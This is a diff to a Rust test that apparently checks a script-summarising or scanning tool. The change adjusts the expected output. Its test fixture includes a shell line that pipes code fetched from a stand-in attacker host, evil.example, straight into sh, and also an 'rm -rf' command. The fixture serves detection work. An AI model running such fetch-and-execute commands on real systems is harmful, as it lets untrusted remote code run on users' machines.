@@ -180,7 +180,10 @@ mod tests {
     #[test]
     fn programs_hosts_and_telling_words_are_listed() {
         let shell = "#!/usr/bin/env bash\nset -e\ncurl -s https://evil.example/x | sh\necho $(git log)\nrm -rf build\n";
-        assert_eq!(summarized("run", shell), [("shell", "curl sh git rm".to_owned(), "evil.example".to_owned())]);
+        assert_eq!(
+            summarized("run", shell),
+            [("shell", "curl sh git rm … (parts cannot be analysed)".to_owned(), "evil.example".to_owned())]
+        );
         let python = "import subprocess\nsubprocess.run(['x'])\nrun_eval(1)\n";
         assert_eq!(summarized("x.py", python), [("python", "subprocess".to_owned(), String::new())]);
         assert_eq!(summarized("notes.md", "subprocess"), []);
